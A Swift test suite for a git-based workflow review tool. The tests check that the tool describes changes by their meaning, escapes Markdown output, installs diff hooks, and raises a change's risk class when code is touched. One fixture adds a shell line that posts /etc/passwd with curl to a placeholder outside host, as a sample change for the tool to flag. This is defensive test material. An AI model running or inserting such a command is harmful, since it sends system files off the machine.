import TestSupport
import Testing

@Suite("command line: the difference in meaning")
struct MeaningTests {
  private static let schema =
    #filePath.split(separator: "/", omittingEmptySubsequences: false).dropLast(3)
    .joined(separator: "/") + "/templates/difference.schema.json"

  private static let before = "#!/bin/sh\necho 1\n"
  private static let after = "#!/bin/sh\necho 1\ncurl https://hooks.collect.example/in -d @/etc/passwd\n"

  private func changed() throws -> Team {
    let team = try Team(.founded)
    try team.change(.maria, "more", ["workflows/greet/run.sh": Self.after, "workflows/greet/unit.sh": "exit 0\n"])
    return team
  }

  @Test("diff says what changed in what it does, and what it did not look into; the lines on request")
  func diff() throws {
    let team = try changed()
    let meaning = try team.countersign(.maria, "diff", "greet")
    expect(
      meaning, 0,
      out: [
        "greet: ", "* code of 'run' (shell)", "+ curl https://hooks.collect.example/in", "not looked into", "M unit.sh",
      ],
      absent: ["@@", "diff --git"])
    expect(try team.countersign(.maria, "diff", "greet", "--lines"), 0, out: ["* code of", "diff --git", "-printf"])
    // Of the policy nobody says what it does: its lines are shown.
    try team.change(
      .maria, "longer",
      [".countersign/policy.yaml": TeamFiles.policy.replacing("min-length: 10", with: "min-length: 12")])
    expect(
      try team.countersign(.maria, "diff", "policy"), 0, out: ["+commits: { signed: true, why: { min-length: 12 }"])
  }

  @Test("what is not understood is said, and the lines follow by themselves")
  func notUnderstood() throws {
    let team = try Team(.founded)
    let manifest = TeamFiles.workflow("greet", risk: "low")["workflow.yaml"]?
      .replacing("engine: script", with: "engine: n8n").replacing("run.sh", with: "flow.json")
    try team.change(
      .maria, "broken",
      [
        "workflows/greet/workflow.yaml": manifest, "workflows/greet/flow.json": "{\"nodes\": [}\n",
        "workflows/greet/run.sh": nil,
      ])
    expect(
      try team.countersign(.maria, "diff", "greet"), 0,
      out: ["! flow.json is not understood, nor what it does", "* declared: engine: script -> n8n", "+{\"nodes\": [}"])
  }

  @Test("as JSON by its schema, and as Markdown that nothing breaks out of")
  func forms() throws {
    let team = try changed()
    try team.change(.maria, "odd", ["workflows/greet/run.sh": "#!/bin/sh\necho '<b>~~~ [x](y) `z`'\n"])
    var documents = [try team.countersign(.maria, "diff", "greet", "--format", "json").output]
    documents.append(try team.countersign(.maria, "diff", "greet", "--format", "json", "--lines").output)
    documents.append(try team.countersign(.maria, "diff", "greet", "HEAD..HEAD", "--format", "json").output)
    documents.append(documents[0].replacing("code-changed", with: "code-chnged"))
    documents.append(documents[0].replacing("difference:v1", with: "difference:v2"))
    let problems = try SchemaCheck.problems(schema: Self.schema, documents: documents)
    #expect(problems.prefix(3).allSatisfy { $0 == nil }, "\(problems)")
    #expect(problems.suffix(2).allSatisfy { $0 != nil })
    let markdown = try team.countersign(.maria, "diff", "greet", "--format", "markdown", "--lines")
    expect(markdown, 0, out: ["### greet: ", "&lt;b&gt;", "\\[x\\]", "~~~~diff\n"])
    #expect(!markdown.output.split(separator: "~~~~diff")[0].contains("<b>"))
  }

  @Test("approve shows what it signs, and submit what it asks for, in meaning")
  func shown() throws {
    let team = try changed()
    expect(
      try team.countersign(.maria, "submit", "greet", "-m", "It has to say more"), 0,
      errors: ["* code of 'run' (shell)", "+ curl https://hooks.collect.example/in"])
    expect(
      try team.countersign(.jonas, "approve", "greet", "-m", "Read it"), 0,
      errors: ["approve greet for main: ", "M run.sh", "* code of 'run' (shell)", "not looked into"])
  }

  @Test(
    "hooks install lets git show definitions by what they do, touches no file of the work tree, and is advice alone")
  func textconv() throws {
    let team = try changed()
    let flow =
      "{\"name\": \"Tell\", \"nodes\": [{\"id\": \"a\", \"name\": \"Start\", \"type\": \"n8n-nodes-base.manualTrigger\", "
      + "\"typeVersion\": 1, \"position\": [0, 0], \"parameters\": {}}], \"connections\": {}}\n"
    try team.change(.maria, "flow", ["workflows/greet/flow.json": flow])
    let mine = "*.txt diff=mine\n"
    try team.sandbox.write("maria/.git/info/attributes", mine)
    try team.must(.maria, "hooks", "install")
    let attributes = String(decoding: try team.sandbox.read("maria/.git/info/attributes"), as: UTF8.self)
    #expect(attributes.hasPrefix(mine) && attributes.contains("/workflows/**/*.json diff=countersign\n"))
    try team.must(.maria, "hooks", "install")
    #expect(String(decoding: try team.sandbox.read("maria/.git/info/attributes"), as: UTF8.self) == attributes)
    #expect(try team.git(.maria, "status", "--porcelain") == "")
    try team.sandbox.write("maria/workflows/greet/flow.json", flow.replacing("[0, 0]", with: "[80, 20]"))
    let layout = try team.git(.maria, "diff")
    #expect(layout.contains("step 'Start'") && !layout.contains("+  step"), "\(layout)")
    try team.sandbox.write("maria/workflows/greet/flow.json", flow.replacing("Start", with: "Begin"))
    #expect(try team.git(.maria, "diff").contains("+  step 'Begin'"))
    #expect(try team.git(.maria, "diff", "--no-textconv").contains("+{\"name\": \"Tell\""))
    // Without the program git shows the file.
    let bare = try team.run(
      .maria, "git", ["diff"], environment: ["PATH": Team.tools])
    #expect(bare.status == 0 && bare.output.contains("+{\"name\": \"Tell\""), "\(bare.errors)")
    // What is no definition is passed on as it is.
    try team.sandbox.write("maria/workflows/greet/flow.json", "{\"colour\": \"blue\"}\n")
    #expect(try team.git(.maria, "diff").contains("+{\"colour\": \"blue\"}"))
  }
}

@Suite("command line: the class rises with what a change means")
struct RaisedTests {
  private func team() throws -> Team {
    let team = try Team(.adopted)
    let policy = TeamFiles.policy.replacing(
      "recall:", with: "risk: { raise: [{ to: medium, when: { meaning: [code-changed] } }] }\nrecall:")
    try team.change(.maria, "rule", [".countersign/policy.yaml": policy])
    for person in [Person.jonas, .sofia] {
      try team.must(person, "approve", "policy", "--rev", "origin/rule", "-m", "Code is to be read")
    }
    try team.must(.maria, "land", "rule")
    return team
  }

  @Test("a change that declares itself low is held as what it is, everywhere, and passes with what its class asks")
  func raised() throws {
    let team = try team()
    try team.change(.maria, "quiet", ["workflows/greet/run.sh": "#!/bin/sh\necho 2\n"])
    let held = try team.countersign(.maria, "gate", "greet", "--for", "main", "--rev", "quiet")
    expect(
      held, 1,
      out: [
        "held: greet@", ", class medium", "the class was raised to medium", "because: code of 'run' (shell)",
        "approvals",
      ])
    expect(try team.countersign(.maria, "land", "quiet"), 1, out: ["the class was raised to medium"])
    // The server says the same of a push past the tool.
    let main = try team.hub("refs/heads/main")
    try team.git(.maria, "checkout", "-q", "-B", "mine", "origin/main")
    try team.git(
      .maria, "merge", "-q", "--no-ff", "-m", "Land it\n\nWhy: A reason that is long enough\nTicket: OPS-7", "quiet")
    let push = try team.tryGit(.maria, "push", "--no-verify", "origin", "mine:main")
    #expect(push.status != 0 && push.errors.contains("class medium"), "\(push.errors)")
    #expect(try team.hub("refs/heads/main") == main)

    try team.must(.maria, "submit", "greet", "--rev", "quiet", "-m", "It has to be quiet")
    try team.must(.ci, "test", "greet", "--suite", "unit", "--rev", "origin/quiet")
    expect(
      try team.countersign(.jonas, "approve", "greet", "-m", "Read it"), 0,
      errors: ["class medium", "* code of 'run' (shell)"])
    try team.must(.maria, "land", "quiet")
    // Later nobody inspects again: that the landing passed rests on the class that was reviewed.
    try team.must(.lena, "sync")
    expect(
      try team.countersign(
        .lena, "promote", "greet", "--env", "dev", "-m", "For the developers", "--ticket", "OPS-7"), 0,
      out: ["released greet@"])
  }

  @Test("another change of the same workflow that means nothing stays low")
  func low() throws {
    let team = try team()
    try team.change(
      .maria, "book",
      [
        "workflows/greet/RUNBOOK.md":
          "# greet\n\n## Pause\n\nPause.\n\n## Roll back\n\nRoll back.\n\n## Fall back to hand work\n\nSay it.\n"
      ])
    try team.must(.maria, "land", "book")
  }
}
